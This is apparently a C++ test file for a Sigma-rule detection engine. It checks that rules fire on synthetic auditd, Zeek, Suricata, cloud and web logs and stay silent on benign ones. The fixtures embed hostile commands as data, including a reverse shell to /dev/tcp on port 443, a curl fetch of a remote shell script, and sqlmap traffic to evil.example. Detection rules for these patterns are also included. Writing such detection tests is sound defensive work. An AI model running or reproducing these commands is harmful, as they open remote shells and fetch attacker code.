// Rules in SigmaHQ's manner, taken through the built-in pipelines, on lines as they stand in logs: read by the format,
// matched by the product. Each case has an event on which the rule fires and one on which it stays silent.

#include <memory>
#include <string>
#include <string_view>
#include <vector>

#include <fmt/format.h>
#include <gtest/gtest.h>

#include "formats/registry.h"
#include "sigma/matcher.h"
#include "sigma/pipeline.h"
#include "sigma/plan.h"
#include "sigma/rule_set.h"

namespace weir {
namespace {

sigma::VariantSet variants_of(std::string_view logsource, std::string_view detection) {
  const std::string text = fmt::format("title: T\nlogsource: {{{}}}\ndetection: {{{}}}\n", logsource, detection);
  std::vector<sigma::ParsedFile> files;
  files.push_back(sigma::parse_file("rule.yml", text));
  const sigma::RuleSet set = sigma::link(std::move(files));
  for (const sigma::Diagnostic& diagnostic : set.diagnostics) {
    EXPECT_NE(diagnostic.severity, sigma::Severity::error) << sigma::render(diagnostic, text);
  }
  return sigma::make_variants(set.rules, {});
}

// How often the rule fires on the records.
std::size_t fired(const sigma::VariantSet& variants, std::string_view format_name, std::string_view records) {
  const formats::Format* format = formats::find_format(format_name);
  EXPECT_NE(format, nullptr) << format_name;
  const auto plan = std::make_shared<const sigma::Plan>(variants.variants);
  sigma::Matcher matcher(plan, {});
  const formats::Options options;
  const std::unique_ptr<formats::Splitter> splitter = format->make_splitter(options);
  const std::unique_ptr<formats::Parser> parser = format->make_parser(plan->field_table(), options);
  std::string bytes(records);
  bytes.resize(records.size() + formats::kPadding);
  std::string_view rest = std::string_view(bytes).substr(0, records.size());
  event::Batch batch;
  std::size_t count = 0, rows = 0;
  while (true) {
    const formats::Cut cut = splitter->cut(rest, true);
    if (cut.skip + cut.size == 0) break;
    batch.clear();
    parser->parse({rest.substr(cut.skip, cut.size), cut.context}, batch);
    for (const event::Row& row : batch.rows()) count += matcher.match(batch, row).size();
    rows += batch.rows().size();
    rest.remove_prefix(cut.skip + cut.size);
  }
  EXPECT_GT(rows, 0u) << "no event in " << records;
  return count;
}

struct Case {
  std::string_view logsource;
  std::string_view detection;
  std::string_view format;
  std::string_view fires;
  std::string_view silent;
};

void check(const std::vector<Case>& cases) {
  for (const Case& each : cases) {
    const sigma::VariantSet variants = variants_of(each.logsource, each.detection);
    EXPECT_EQ(fired(variants, each.format, each.fires), 1u) << each.detection << "\n" << each.fires;
    EXPECT_EQ(fired(variants, each.format, each.silent), 0u) << each.detection << "\n" << each.silent;
  }
}

constexpr std::string_view kCurl =
    "type=SYSCALL msg=audit(1700000000.100:41): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 "
    "items=2 "
    "ppid=10 pid=11 auid=1000 uid=33 gid=33 comm=\"curl\" exe=\"/usr/bin/curl\" key=\"exec\"\x1DUID=\"www-data\"\n"
    "type=EXECVE msg=audit(1700000000.100:41): argc=2 a0=\"curl\" a1=\"http://198.51.100.7/x.sh\"\n"
    "type=CWD msg=audit(1700000000.100:41): cwd=\"/tmp\"\n"
    "type=PROCTITLE msg=audit(1700000000.100:41): "
    "proctitle=6375726C00687474703A2F2F3139382E35312E3130302E372F782E7368\n";
constexpr std::string_view kLs =
    "type=SYSCALL msg=audit(1700000000.200:42): arch=c000003e syscall=59 success=yes exit=0 ppid=10 pid=12 uid=33 "
    "comm=\"ls\" exe=\"/usr/bin/ls\"\n"
    "type=EXECVE msg=audit(1700000000.200:42): argc=1 a0=\"ls\"\n"
    "type=PROCTITLE msg=audit(1700000000.200:42): proctitle=\"ls\"\n";
constexpr std::string_view kCron =
    "type=SYSCALL msg=audit(1700000001.000:50): arch=c000003e syscall=257 success=yes exit=3 pid=12 uid=0 "
    "comm=\"sh\" exe=\"/usr/bin/dash\"\n"
    "type=PATH msg=audit(1700000001.000:50): item=0 name=\"/etc/cron.d/\" inode=1 nametype=PARENT\n"
    "type=PATH msg=audit(1700000001.000:50): item=1 name=\"/etc/cron.d/job\" inode=2 nametype=CREATE\n";
constexpr std::string_view kConnect =
    "type=SYSCALL msg=audit(1700000002.000:60): arch=c000003e syscall=42 success=yes exit=0 pid=12 uid=0 "
    "comm=\"nc\" exe=\"/usr/bin/nc\"\n"
    "type=SOCKADDR msg=audit(1700000002.000:60): saddr=02000050C63364070000000000000000\n";

TEST(BuiltinPipelines, AuditdSeesProcessesFilesAndConnectionsOfLinux) {
  constexpr std::string_view kProcess = "product: linux, category: process_creation";
  check({
      {kProcess, "s: {Image|endswith: /curl, CommandLine|contains: 'http://'}, condition: s", "auditd", kCurl, kLs},
      {kProcess, "s: {CurrentDirectory: /tmp, User: www-data}, condition: s", "auditd", kCurl, kLs},
      {"product: linux, category: file_event", "s: {TargetFilename|startswith: /etc/cron.d/}, condition: s", "auditd",
       kCron, kCurl},
  });
  // The record of the address is named SOCKADDR.
  std::string connect(kConnect);
  check({{"product: linux, category: network_connection",
          "s: {DestinationIp: 198.51.100.7, DestinationPort: 80, Initiated: 'true'}, condition: s", "auditd", connect,
          kCurl}});
}

// The kernel keeps 128 bytes of a process title; the arguments are whole.
TEST(BuiltinPipelines, AuditdSeesArgumentsBehindTheCutProcessTitle) {
  const std::string padding(300, 'A');
  std::string title;
  for (const char c : (std::string("bash\0-c\0: ", 10) + padding).substr(0, 128)) title += fmt::format("{:02X}", c);
  const std::string_view start =
      "type=SYSCALL msg=audit(1700000000.100:41): arch=c000003e syscall=59 success=yes a0=1 a1=2 "
      "exe=\"/usr/bin/bash\"\n";
  const auto with_script = [&](std::string_view script) {
    std::string hex;
    for (const char c : ": " + padding + "; " + std::string(script)) hex += fmt::format("{:02X}", c);
    const std::size_t half = 400;
    return fmt::format(
        "{}type=EXECVE msg=audit(1700000000.100:41): argc=3 a0=\"bash\" a1=\"-c\" a2_len={} a2[0]={}\n"
        "type=EXECVE msg=audit(1700000000.100:41): a2[1]={}\n"
        "type=PROCTITLE msg=audit(1700000000.100:41): proctitle={}\n",
        start, hex.size(), hex.substr(0, half), hex.substr(half), title);
  };
  const std::string evil = with_script("bash -i >& /dev/tcp/198.51.100.7/443");
  const std::string harmless = with_script("true");
  constexpr std::string_view kRule = "s: {CommandLine|contains: 'bash -i >& /dev/tcp/'}, condition: s";
  constexpr std::string_view kWhole =
      "s: {CommandLine|startswith: 'bash -c : AAA', CommandLine|endswith: '/443'}, condition: s";
  check({{"product: linux, category: process_creation", kRule, "auditd", evil, harmless},
         {"product: linux, category: process_creation", kWhole, "auditd", evil, harmless}});
  const std::string untitled = evil.substr(0, evil.find("type=PROCTITLE"));
  check({{"product: linux, category: process_creation", kRule, "auditd", untitled, harmless}});
}

TEST(BuiltinPipelines, AuditdLeavesRulesOnTheParentToOtherLogs) {
  const sigma::VariantSet variants =
      variants_of("product: linux, category: process_creation",
                  "s: {Image|endswith: /curl}, f: {ParentImage: /x}, condition: s and not f");
  EXPECT_EQ(fired(variants, "auditd", kCurl), 0u);
}

constexpr std::string_view kZeekHttp =
    R"({"_path":"http","ts":1700000000.1,"uid":"C1","id.orig_h":"10.0.0.5","id.orig_p":50000,"id.resp_h":"198.51.100.7",)"
    R"("id.resp_p":80,"method":"POST","host":"evil.example","uri":"/gate.php?id=1","user_agent":"sqlmap/1.7",)"
    R"("status_code":200})"
    "\n";
constexpr std::string_view kZeekPlain =
    R"({"_path":"http","ts":1700000000.1,"uid":"C2","id.orig_h":"10.0.0.5","id.resp_h":"198.51.100.7","id.resp_p":80,)"
    R"("method":"GET","host":"www.example","uri":"/","user_agent":"Mozilla/5.0","status_code":200})"
    "\n";
constexpr std::string_view kZeekDns =
    R"({"_path":"dns","ts":1700000000.1,"uid":"C3","id.orig_h":"10.0.0.5","id.resp_h":"10.0.0.1","id.resp_p":53,)"
    R"("query":"aaa.tunnel.example","qtype_name":"TXT","answers":["abc","def"]})"
    "\n";
constexpr std::string_view kZeekConn =
    R"({"_path":"conn","ts":1700000000.1,"uid":"C4","id.orig_h":"10.0.0.5","id.orig_p":50001,"id.resp_h":"203.0.113.9",)"
    R"("id.resp_p":4444,"proto":"tcp","conn_state":"SF"})"
    "\n";

TEST(BuiltinPipelines, ZeekSeesRulesOnProxiesWebServersDnsAndFirewalls) {
  check({
      {"category: proxy", "s: {c-useragent|startswith: sqlmap, cs-method: POST, cs-host: evil.example}, condition: s",
       "json", kZeekHttp, kZeekPlain},
      {"category: proxy", "s: {c-uri|contains: /gate.php, sc-status: 200, dst_ip|cidr: 198.51.100.0/24}, condition: s",
       "json", kZeekHttp, kZeekPlain},
      {"category: webserver", "s: {cs-uri-query|contains: 'id=1', cs-user-agent|contains: sqlmap}, condition: s",
       "json", kZeekHttp, kZeekPlain},
      {"category: dns", "s: {query|endswith: .tunnel.example, record_type: TXT, answer: def}, condition: s", "json",
       kZeekDns, kZeekHttp},
      {"category: firewall", "s: {dst_ip: 203.0.113.9, dst_port: 4444, src_ip|cidr: 10.0.0.0/8}, condition: s", "json",
       kZeekConn, kZeekDns},
      // A rule that names Zeek's log says itself what it wants.
      {"product: zeek, service: dns", "s: {query|endswith: .tunnel.example}, condition: s", "json", kZeekDns,
       kZeekHttp},
  });
}

constexpr std::string_view kZeekTsv =
    "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\thttp\n"
    "#fields\tts\tuid\tid.orig_h\tid.resp_h\tid.resp_p\tmethod\thost\turi\tuser_agent\tstatus_code\n"
    "#types\ttime\tstring\taddr\taddr\tport\tstring\tstring\tstring\tstring\tcount\n"
    "1700000000.1\tC1\t10.0.0.5\t198.51.100.7\t80\tPOST\tevil.example\t/gate.php?id=1\tsqlmap/1.7\t200\n";

TEST(BuiltinPipelines, ZeekIsSeenInItsOwnFormToo) {
  check({{"category: proxy", "s: {c-uri|contains: /gate.php, cs-host: evil.example}, condition: s", "zeek", kZeekTsv,
          "#separator \\x09\n#path\tdns\n#fields\tts\tquery\n1700000000.1\t/gate.php\n"}});
}

constexpr std::string_view kEveHttp =
    R"({"timestamp":"2024-05-01T10:00:00.000000+0000","flow_id":1,"event_type":"http","src_ip":"10.0.0.5","src_port":1,)"
    R"("dest_ip":"198.51.100.7","dest_port":80,"proto":"TCP","http":{"hostname":"evil.example","url":"/gate.php?id=1",)"
    R"("http_user_agent":"sqlmap/1.7","http_method":"POST","status":200}})"
    "\n";
constexpr std::string_view kEveDns =
    R"({"timestamp":"2024-05-01T10:00:00.000000+0000","flow_id":2,"event_type":"dns","src_ip":"10.0.0.5","src_port":1,)"
    R"("dest_ip":"10.0.0.1","dest_port":53,"proto":"UDP","dns":{"type":"query","rrname":"aaa.tunnel.example",)"
    R"("rrtype":"TXT"}})"
    "\n";
constexpr std::string_view kEveFlow =
    R"({"timestamp":"2024-05-01T10:00:00.000000+0000","flow_id":3,"event_type":"flow","src_ip":"10.0.0.5","src_port":1,)"
    R"("dest_ip":"203.0.113.9","dest_port":4444,"proto":"TCP","flow":{"state":"closed"}})"
    "\n";

TEST(BuiltinPipelines, SuricataSeesRulesOnProxiesWebServersDnsAndFirewalls) {
  check({
      {"category: proxy",
       "s: {c-useragent|startswith: sqlmap, cs-method: POST, c-uri|contains: gate.php}, condition: s", "json", kEveHttp,
       kEveDns},
      {"category: webserver", "s: {cs-uri-query|contains: 'id=1', sc-status: 200}, condition: s", "json", kEveHttp,
       kEveFlow},
      {"category: dns", "s: {query|endswith: .tunnel.example, record_type: TXT}, condition: s", "json", kEveDns,
       kEveHttp},
      {"category: firewall", "s: {dst_ip: 203.0.113.9, dst_port: 4444}, condition: s", "json", kEveFlow, kEveHttp},
  });
}

constexpr std::string_view kSignInTable =
    R"({"Type":"SigninLogs","TimeGenerated":"2024-05-01T10:00:00Z","OperationName":"Sign-in activity","Category":"SignInLogs",)"
    R"("CorrelationId":"c","ResourceId":"/tenants/t","ResultType":"50126","AuthenticationRequirement":"singleFactorAuthentication",)"
    R"("UserPrincipalName":"a@example.com","AppDisplayName":"Office"})"
    "\n";
constexpr std::string_view kSignInExport =
    R"({"time":"2024-05-01T10:00:00Z","resourceId":"/tenants/t","operationName":"Sign-in activity","category":"SignInLogs",)"
    R"("resultType":"50126","correlationId":"c","properties":{"userPrincipalName":"a@example.com",)"
    R"("authenticationRequirement":"singleFactorAuthentication","appDisplayName":"Office"}})"
    "\n";
constexpr std::string_view kAudit =
    R"({"time":"2024-05-01T10:00:00Z","resourceId":"/tenants/t","operationName":"Add member to role","category":"AuditLogs",)"
    R"("resultType":"","correlationId":"c","properties":{"activityDisplayName":"Add member to role","category":"RoleManagement",)"
    R"("loggedByService":"Core Directory"}})"
    "\n";
constexpr std::string_view kActivity =
    R"({"time":"2024-05-01T10:00:00Z","resourceId":"/subscriptions/s","operationName":"MICROSOFT.KEYVAULT/VAULTS/DELETE",)"
    R"("category":"Administrative","resultType":"Success","correlationId":"c","callerIpAddress":"198.51.100.7"})"
    "\n";

TEST(BuiltinPipelines, AzureIsSeenInAllItsSpellings) {
  constexpr std::string_view kRule =
      "s: {ResultType: 50126, AuthenticationRequirement: singleFactorAuthentication}, condition: s";
  check({
      {"product: azure, service: signinlogs", kRule, "json", kSignInTable, kAudit},
      {"product: azure, service: signinlogs", kRule, "json", kSignInExport, kAudit},
      {"product: azure, service: signinlogs", "s: {properties.appDisplayName: Office}, condition: s", "json",
       kSignInTable, kActivity},
      {"product: azure, service: auditlogs", "s: {properties.message: Add member to role}, condition: s", "json",
       kAudit, kSignInExport},
      {"product: azure, service: auditlogs",
       "s: {Category: RoleManagement, LoggedByService: Core Directory}, condition: s", "json", kAudit, kActivity},
      {"product: azure, service: activitylogs",
       "s: {OperationNameValue|startswith: Microsoft.KeyVault/vaults/, CategoryValue: Administrative}, condition: s",
       "json", kActivity, kAudit},
  });
}

TEST(BuiltinPipelines, CloudTrailIsSeenByTheTaxonomysNamesToo) {
  constexpr std::string_view kEvent =
      R"({"eventVersion":"1.08","eventTime":"2024-05-01T10:00:00Z","eventSource":"signin.amazonaws.com",)"
      R"("eventName":"ConsoleLogin","awsRegion":"us-east-1","sourceIPAddress":"198.51.100.7","userAgent":"curl/8",)"
      R"("userIdentity":{"type":"IAMUser","userName":"alice"},"responseElements":{"ConsoleLogin":"Failure"}})"
      "\n";
  constexpr std::string_view kOther =
      R"({"eventVersion":"1.08","eventTime":"2024-05-01T10:00:00Z","eventSource":"s3.amazonaws.com",)"
      R"("eventName":"GetObject","awsRegion":"us-east-1","sourceIPAddress":"10.0.0.1","userIdentity":{"type":"Root"}})"
      "\n";
  check({
      {"product: aws, service: cloudtrail", "s: {eventName: ConsoleLogin, src_ip|cidr: 198.51.100.0/24}, condition: s",
       "json", kEvent, kOther},
      {"product: aws, service: cloudtrail",
       "s: {responseElements.ConsoleLogin: Failure, userIdentity.type: IAMUser}, condition: s", "json", kEvent, kOther},
  });
}

constexpr std::string_view kSquid =
    "1700000000.123    200 10.0.0.5 TCP_MISS/200 1234 GET http://evil.example/gate.php?id=1 - HIER_DIRECT/198.51.100.7 "
    "text/html\n";
constexpr std::string_view kCombined =
    "10.0.0.5 - - [01/May/2024:10:00:00 +0000] \"GET /gate.php?id=1 HTTP/1.1\" 200 12 \"-\" \"sqlmap/1.7\"\n";
constexpr std::string_view kW3c =
    "#Software: Microsoft Internet Information Services 10.0\n"
    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port c-ip cs(User-Agent) sc-status\n"
    "2024-05-01 10:00:00 10.0.0.1 GET /gate.php id=1 80 10.0.0.5 sqlmap/1.7 200\n";
constexpr std::string_view kSshd =
    "<86>May  1 10:00:00 host sshd[77]: Failed password for invalid user admin from 198.51.100.7 port 22 ssh2\n";

TEST(BuiltinPipelines, FormatsThatGiveSigmasNamesNeedNone) {
  check({
      {"category: proxy", "s: {c-uri|contains: /gate.php, cs-host: evil.example, sc-status: 200}, condition: s",
       "squid", kSquid,
       "1700000000.123 2 10.0.0.5 TCP_MISS/200 1 GET http://www.example/ - HIER_DIRECT/198.51.100.7 -\n"},
      {"category: webserver", "s: {cs-uri-query|contains: 'id=1', cs-user-agent|contains: sqlmap}, condition: s", "clf",
       kCombined, "10.0.0.5 - - [01/May/2024:10:00:00 +0000] \"GET / HTTP/1.1\" 200 12 \"-\" \"-\"\n"},
      {"category: webserver", "s: {cs-uri-stem: /gate.php, cs-method: GET}, condition: s", "w3c", kW3c,
       "#Fields: date time cs-method cs-uri-stem s-ip c-ip\n2024-05-01 10:00:00 GET / 10.0.0.1 10.0.0.5\n"},
      {"product: linux, service: sshd", "k: [Failed password, invalid user], condition: k", "syslog", kSshd,
       "<86>May  1 10:00:00 host CRON[77]: Failed password\n"},
      {"product: linux, service: auth", "k: [Failed password], condition: k", "syslog", kSshd,
       "<30>May  1 10:00:00 host app[77]: Failed password\n"},
  });
}

TEST(BuiltinPipelines, ProcessCreationIsEvent4688Too) {
  constexpr std::string_view kEvent =
      R"({"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Security-Auditing"}},"EventID":4688,)"
      R"("Channel":"Security"},"EventData":{"NewProcessName":"C:\\Windows\\System32\\whoami.exe",)"
      R"("ParentProcessName":"C:\\Windows\\explorer.exe","CommandLine":"whoami /all","MandatoryLabel":"S-1-16-12288"}}})"
      "\n";
  constexpr std::string_view kOther =
      R"({"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Security-Auditing"}},"EventID":4689,)"
      R"("Channel":"Security"},"EventData":{"NewProcessName":"C:\\Windows\\System32\\whoami.exe"}}})"
      "\n";
  constexpr std::string_view kRule =
      "s: {Image|endswith: \\whoami.exe, IntegrityLevel: High, ParentImage|endswith: explorer.exe}, condition: s";
  check({{"product: windows, category: process_creation", kRule, "json", kEvent, kOther}});
  // A rule that asks for one log is not led to another.
  EXPECT_EQ(fired(variants_of("product: windows, category: process_creation, service: sysmon", kRule), "json", kEvent),
            0u);
}

TEST(BuiltinPipelines, LeaveRulesOfOtherProductsAlone) {
  for (const std::string_view logsource :
       {"product: fortios, category: proxy", "product: cisco, category: firewall", "category: dns, service: bind"}) {
    EXPECT_EQ(variants_of(logsource, "s: {query: x}, condition: s").variants.size(), 1u) << logsource;
  }
}

}  // namespace
}  // namespace weir
